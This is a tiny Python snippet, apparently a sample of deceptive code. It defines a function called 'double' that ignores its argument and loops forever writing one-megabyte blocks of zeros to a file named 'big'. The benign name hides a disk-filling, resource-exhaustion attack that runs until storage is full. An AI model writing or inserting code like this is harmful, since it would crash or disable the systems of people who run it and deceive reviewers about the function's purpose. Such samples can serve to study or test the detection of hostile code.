def double(x):
    f = open('big', 'wb')
    while True: f.write(bytes(1 << 20))
